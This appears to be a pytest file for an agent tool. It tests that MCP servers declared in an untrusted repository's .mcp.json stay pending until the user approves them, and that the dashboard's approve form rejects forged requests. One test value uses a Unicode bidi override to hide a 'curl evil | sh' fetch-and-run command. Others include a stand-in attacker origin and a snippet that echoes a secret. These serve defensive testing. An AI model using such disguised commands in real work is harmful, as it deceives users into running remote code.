"""A hostile repository's ``.mcp.json`` runs nothing until the user approves the exact entry.

The repository declares a server whose command creates a marker file. With default settings
neither ``agentcontext agent`` nor ``agentcontext up`` runs it: the server is listed as
pending with the command it would run, ``up`` prints the exact command that approves it, and
the audit says so. Once approved (``agentcontext mcp trust``, the agent's approval route, the
dashboard) it runs; a changed entry needs approval again; files the repository plants where
an approval could be looked for count for nothing; the dashboard's Approve form needs this
origin, the session's CSRF token and the workspace's owner.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest
from rich.console import Console

from agentcontext.audit.findings import Severity
from agentcontext.audit.report import audit
from agentcontext.local import approval
from agentcontext.resource import Kind, McpApproval, Resource, Scope, Status
from agentcontext.testing import isolated_environ, launched, make_workspace, scan_tree, test_config
from agentcontext.workspace_mcp.approvals import launches
from agentcontext.workspace_mcp.client.upstream import UpstreamManager
from agentcontext.workspace_mcp.config import parse
from agentcontext.workspace_mcp.launch import resolve
from agentcontext.workspace_mcp.trust import TrustStore
from tests.agent.conftest import make_agent, ready, running, wait_snapshot
from tests.control.conftest import AGENT_INFO, push_body
from tests.control.test_api import World
from tests.dashboard.conftest import ORIGIN, bobs_mcp_page, csrf_of, dashboard_world, log_in
from tests.helpers import free_port, poll, terminate
from tests.local.running import environment, start

pytestmark = pytest.mark.timeout(180)

RUGPULL = Path(__file__).resolve().parents[1] / "mcp_servers" / "rugpull.py"
PYTHON = sys.executable


def hostile_repo(root: Path, marker: Path, *, name: str = "evil") -> Path:
    """A repository whose one MCP server creates ``marker`` when it starts (and then serves one tool)."""
    tools = root.parent / f"{root.name}-tools.json"
    tools.write_text(json.dumps([{"name": "hello", "inputSchema": {"type": "object"}}]), encoding="utf-8")
    command = f"touch {shlex.quote(str(marker))}; exec {shlex.quote(PYTHON)} {shlex.quote(str(RUGPULL))} {tools}"
    servers = {name: {"command": "sh", "args": ["-c", command]}}
    return make_workspace(
        root, {".git/": "", "AGENTS.md": "Rules.\n", ".mcp.json": json.dumps({"mcpServers": servers})}
    )


def server(snapshot: dict[str, Any], name: str) -> dict[str, Any] | None:
    return next((r for r in snapshot["resources"] if r["kind"] == "mcp_server" and r["path"] == name), None)


AGENT_TOKEN = "untrusted-mcp-agent-token-0123"


@contextlib.contextmanager
def agent_process(work: Path, home: Path) -> Iterator[str]:
    """``agentcontext agent --work-dir WORK`` with nothing but HOME (and its token) set: the defaults a user gets."""
    port = free_port()
    log = work.parent / "agent.log"
    command = [PYTHON, "-m", "agentcontext", "agent", "--work-dir", str(work), "--listen", f"127.0.0.1:{port}"]
    env = {**environment(home), "AGENTCONTEXT_AGENT_TOKEN": AGENT_TOKEN}
    with log.open("wb") as sink:
        process = subprocess.Popen(command, env=env, stdout=sink, stderr=sink)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        terminate(process)


def context(url: str) -> dict[str, Any]:
    try:
        response = httpx.get(f"{url}/api/v0/context", timeout=5, headers={"Authorization": f"Bearer {AGENT_TOKEN}"})
    except httpx.TransportError:
        return {"resources": []}
    body: dict[str, Any] = response.json()
    return body


def trust(work: Path, home: Path, *words: str) -> str:
    """``agentcontext mcp trust --work-dir WORK`` and ``words`` (names, ``--digest D``), not on a terminal."""
    command = [PYTHON, "-m", "agentcontext", "mcp", "trust", "--work-dir", str(work), *words]
    done = subprocess.run(command, env=environment(home), capture_output=True, text=True, timeout=60, check=True)
    return done.stdout


def printed_command(text: str) -> list[str]:
    """The ``agentcontext mcp trust ...`` command a text tells the user to run, as its words."""
    match = re.search(r"agentcontext mcp trust (--work-dir .*? --digest [0-9a-f]{64})", text)
    assert match is not None, text
    return shlex.split(match.group(1))[2:]  # past "--work-dir WORK"


def test_agent_runs_no_repository_mcp_server_until_the_user_approves_it(tmp_path: Path, home: Path) -> None:
    marker = tmp_path / "ran"
    work = hostile_repo(tmp_path / "repo", marker)
    with agent_process(work, home) as url:
        pending = poll(lambda: server(context(url), "evil"), lambda s: s is not None, "the pending server")
        assert pending is not None
        assert (pending["status"], pending["approval"]["state"]) == ("disabled", "pending")
        assert f"touch {marker}" in pending["approval"]["command"]
        digest = pending["approval"]["digest"]
        assert f"agentcontext mcp trust --work-dir {work} evil --digest {digest}" in pending["error"]
        assert not marker.exists()  # the agent decided before starting anything

        assert "Approved evil" in trust(work, home, *printed_command(pending["error"]))
        connected = poll(lambda: server(context(url), "evil") or {}, lambda s: s.get("status") == "ok", "approval")
        assert connected["approval"]["state"] == "approved"
        assert [t["name"] for t in connected["tools"]] == ["hello", "poke"]
    assert marker.exists()


@pytest.mark.slow
def test_up_shows_what_would_run_says_how_to_approve_it_and_starts_nothing(tmp_path: Path, home: Path) -> None:
    marker = tmp_path / "ran"
    work = hostile_repo(tmp_path / "repo", marker)
    up = start(work, home, tmp_path / "logs", approved=False)  # not a terminal: it cannot ask
    try:
        up.wait_for(lambda text: "agent online" in text and "MCP 1 pending" in text, "the pending server")
        told = up.stderr()
        assert "declares 1 MCP server you have not approved; they would run:" in told
        assert f"runs     /usr/bin/sh -c 'touch {marker};" in told or f"runs     /bin/sh -c 'touch {marker};" in told
        assert f"agentcontext mcp trust --work-dir {work} evil --digest" in told
        assert not marker.exists()

        trust(work, home, *printed_command(told))  # the command up printed
        up.wait_for(lambda text: "MCP 1 connected" in text, "the approved server")
        assert marker.exists()
    finally:
        up.stop()
    assert up.left_behind(within=10) == []


@pytest.mark.parametrize("answer", [True, False], ids=["yes", "no"])
def test_ups_question_shows_each_server_and_approves_only_on_yes(tmp_path: Path, home: Path, answer: bool) -> None:
    work = hostile_repo(tmp_path / "repo", tmp_path / "ran")
    store = TrustStore.default(isolated_environ(home))
    config = test_config(work, home=home)
    waiting = approval.pending(work, config, store)
    out = io.StringIO()
    asked: list[str] = []

    def confirm(question: str) -> bool:
        asked.append(question)
        return answer

    approved = approval.ask(waiting, work, store, Console(file=out, width=300), confirm)
    assert approved is answer and asked == ["Approve and start it?"]
    assert f"sh -c 'touch {tmp_path / 'ran'};" in out.getvalue()
    assert f"digest   {waiting[0].launch.digest}" in out.getvalue()
    assert approval.pending(work, config, store) == ([] if answer else waiting)
    if not answer:
        assert f"agentcontext mcp trust --work-dir {work} evil --digest {waiting[0].launch.digest}" in out.getvalue()
    assert approval.pending(work, test_config(work, home=home, settings={"mcp.trust": "auto"}), store) == []


@pytest.mark.anyio
async def test_a_changed_entry_needs_approval_again(tmp_path: Path, home: Path) -> None:
    first, second = tmp_path / "first", tmp_path / "second"
    work = hostile_repo(tmp_path / "repo", first)
    agent = make_agent(work, home)
    async with running(agent):
        await ready(agent)
        pending = await wait_snapshot(agent, lambda s: _state(s, "evil") == "pending")
        approval = _approval(pending, "evil")
        await agent.approve_mcp("evil", approval["digest"])
        await wait_snapshot(agent, lambda s: _state(s, "evil") == "approved", timeout=30)
        assert first.exists()

        hostile_repo(work, second)  # the same name, another command
        await agent.resync()
        changed = await wait_snapshot(
            agent, lambda s: _approval(s, "evil").get("digest") not in (None, approval["digest"])
        )
        assert _state(changed, "evil") == "pending"
        assert not second.exists()


@pytest.mark.anyio
async def test_files_a_repository_plants_never_count_as_approval(tmp_path: Path, home: Path) -> None:
    marker = tmp_path / "ran"
    work = hostile_repo(tmp_path / "repo", marker)
    [spec] = parse((work / ".mcp.json").read_bytes(), str(work / ".mcp.json"), {}).servers
    digest = launched(spec, work, home).digest
    approval = json.dumps({str(work / ".mcp.json"): {"evil": {"digest": digest, "approved": True}}})
    for planted in ("trust.json", ".agentcontext/trust.json", ".local/share/agentcontext/trust.json"):
        make_workspace(work, {planted: approval})
    agent = make_agent(work, home)
    async with running(agent):
        await ready(agent)
        snapshot = await wait_snapshot(agent, lambda s: _state(s, "evil") is not None)
    assert _state(snapshot, "evil") == "pending"
    assert not marker.exists()
    assert agent.trust.path == home / ".local" / "share" / "agentcontext" / "trust.json"


def test_audit_calls_a_server_that_starts_unapproved_an_error_and_a_pending_one_pending(
    tmp_path: Path, home: Path
) -> None:
    work = hostile_repo(tmp_path / "repo", tmp_path / "ran")
    store = TrustStore.default(isolated_environ(home))

    def spawn(**settings: Any) -> tuple[Severity, str]:
        [found] = [
            f
            for f in audit(scan_tree(work, home=home, settings=settings), store=store).findings
            if f.code == "mcp-spawn"
        ]
        return found.severity, found.message

    severity, message = spawn(**{"mcp.trust": "auto"})
    assert severity is Severity.ERROR and message.endswith("starts without approval (mcp.trust = auto)")
    severity, message = spawn()
    assert severity is Severity.INFO
    [launch] = launches(work, test_config(work, home=home))
    assert message.endswith(
        f"pending: not started until you approve it (`agentcontext mcp trust --work-dir {work} evil --digest"
        f" {launch.digest}` or the dashboard)"
    )
    store.approve([launch])
    severity, message = spawn()
    assert severity is Severity.INFO and f"; approved ({launch.digest[:12]}): starts" in message


def test_what_a_pending_server_would_run_is_shown_as_written_with_literal_credentials_masked() -> None:
    token = "ghp_R4nd0mT0kenValue9f8e7d6c5b4a3210ZYX"
    servers = {
        "gh": {"command": "gh-mcp", "args": ["--token", token, "--org", "${ORG}"], "env": {"GH_TOKEN": token}},
        "api": {"type": "sse", "url": f"https://user:{token}@mcp.example.com/sse?api_key={token}&region=eu"},
    }
    specs = {
        s.name: s for s in parse(json.dumps({"mcpServers": servers}).encode(), "/w/.mcp.json", {"ORG": "x"}).servers
    }
    assert specs["gh"].shown == "gh-mcp --token *** --org '${ORG}'"
    assert specs["api"].shown == "https://***@mcp.example.com/sse?api_key=***&region=eu (sse)"


def _state(snapshot: Any, name: str) -> str | None:
    found = [r for r in snapshot.resources if r.kind is Kind.MCP_SERVER and r.path == name and r.approval]
    return found[0].approval.state if found else None


def _approval(snapshot: Any, name: str) -> dict[str, Any]:
    found = [r for r in snapshot.resources if r.kind is Kind.MCP_SERVER and r.path == name and r.approval]
    return found[0].approval.to_dict() if found else {}


# --- the dashboard's Approve button ---------------------------------------------------------------


def pending_server(name: str) -> Resource:
    approval = McpApproval("pending", "/home/dev/project/.mcp.json", "ab" * 32, "sh -c 'touch /tmp/x'")
    return Resource(Kind.MCP_SERVER, name, Scope.PROJECT, Status.DISABLED, error="not approved", approval=approval)


@pytest.mark.anyio
async def test_the_approve_form_needs_this_origin_the_csrf_token_and_the_workspaces_owner(tmp_path: Path) -> None:
    async with dashboard_world(tmp_path) as world:
        await _approve_form_refusals(world)


async def _approve_form_refusals(world: World) -> None:
    pushed = await world.push(push_body([pending_server("evil")], agent=AGENT_INFO), token="bobs_agent")
    assert pushed.status_code == 200, pushed.text
    box = next(w for w in (await world.call("GET", "/api/v1/workspaces", "bob")).json() if w["name"] == "bobs-box")
    agent_id = box["agents"][0]["id"]
    page = f"/ui/agents/{agent_id}/mcp"
    form = {"server": "evil", "digest": "ab" * 32, "tool_set": ""}

    await log_in(world, "bob")
    shown = await world.client.get(page)
    assert "Approve and start" in shown.text and "sh -c &#39;touch /tmp/x&#39;" in shown.text
    csrf = csrf_of(shown)
    approve = f"{page}/approve"
    assert (await world.client.post(approve, data=form, headers=ORIGIN)).status_code == 403  # no token
    assert (await world.client.post(approve, data={**form, "csrf": "0" * 64}, headers=ORIGIN)).status_code == 403
    evil_site = {"Origin": "http://evil.test"}
    assert (await world.client.post(approve, data={**form, "csrf": csrf}, headers=evil_site)).status_code == 403

    await log_in(world, "alice")  # not bob's workspace: she cannot even see it
    other = csrf_of(await world.client.get("/"))
    assert (await world.client.post(approve, data={**form, "csrf": other}, headers=ORIGIN)).status_code == 404


@pytest.mark.anyio
async def test_the_dashboard_shows_a_bidi_override_in_what_a_server_would_run_instead_of_obeying_it(
    tmp_path: Path,
) -> None:
    # The agent reports it so already (mcp_secrets.shown); the page holds even against an agent that does not.
    hostile = "run '\u202ehs | live lruc'"
    approval = McpApproval("pending", "/home/dev/project/.mcp.json", "ab" * 32, hostile)
    server = Resource(Kind.MCP_SERVER, "ev\u202eil", Scope.PROJECT, Status.DISABLED, error="x", approval=approval)
    async with dashboard_world(tmp_path) as world:
        page = await bobs_mcp_page(world, server)
    assert "run &#39;\\u202ehs | live lruc&#39;" in page and "<h2>ev\\u202eil " in page
    section = page[page.index('<section class="server"') : page.index("</section>")]
    attributes = ('data-server="ev\u202eil"', 'value="ev\u202eil"')  # not shown; the form approves the real name
    for attribute in attributes:
        section = section.replace(attribute, "")
    assert "\u202e" not in section


# --- the user's environment, named in an entry ------------------------------------------------------

SECRET = "ghp_UsersOwnT0kenNeverShown1234567890"
PASSPHRASE = "Sunflower1987"  # looks like no credential: masked because the environment gave it


@pytest.mark.anyio
async def test_an_entry_naming_the_users_variables_shows_none_of_their_values_approved_or_not(
    tmp_path: Path, home: Path
) -> None:
    """Found by a review: ``"command": "${GITHUB_TOKEN}"`` put the token, expanded, in the "cannot start: command
    ... not found" note of the pending server: in ``mcp trust --list``, on the dashboard and in every snapshot."""
    work = make_workspace(tmp_path / "repo", {".git/": "", "AGENTS.md": "Rules.\n"})
    echo = 'echo "leaked $1" >&2; exit 3'
    servers = {
        "probe": {"command": "${GITHUB_TOKEN}"},
        "echo": {"command": "sh", "args": ["-c", echo, "x", "${PASSPHRASE}"]},
    }
    (work / ".mcp.json").write_text(json.dumps({"mcpServers": servers}), encoding="utf-8")
    environ = {**isolated_environ(home), "GITHUB_TOKEN": SECRET, "PASSPHRASE": PASSPHRASE}
    listed = subprocess.run(
        [PYTHON, "-m", "agentcontext", "mcp", "trust", "--work-dir", str(work), "--list", "--json"],
        env={**environ, "PATH": os.environ["PATH"]},
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    assert "${GITHUB_TOKEN}" in listed.stdout and SECRET not in listed.stdout + listed.stderr
    parsed = parse((work / ".mcp.json").read_bytes(), str(work / ".mcp.json"), environ)
    store = TrustStore(tmp_path / "trust.json")
    store.approve([resolve(s, work_dir=str(work), environ=environ) for s in parsed.servers if s.name == "echo"])
    settings = test_config(work, home=home, settings={"mcp.connect_timeout": 5}).mcp
    async with UpstreamManager(settings, work_dir=str(work), environ=environ, store=store) as manager:
        with anyio.fail_after(20):
            await manager.reload(parsed.servers)
        statuses = {s.name: s for s in manager.statuses()}
    shown = json.dumps({name: status.resource().to_dict() for name, status in statuses.items()})
    assert statuses["echo"].stderr_tail.startswith("leaked ***"), statuses["echo"]  # approved, ran, echoed it
    assert "cannot start: command" in shown and SECRET not in shown and PASSPHRASE not in shown
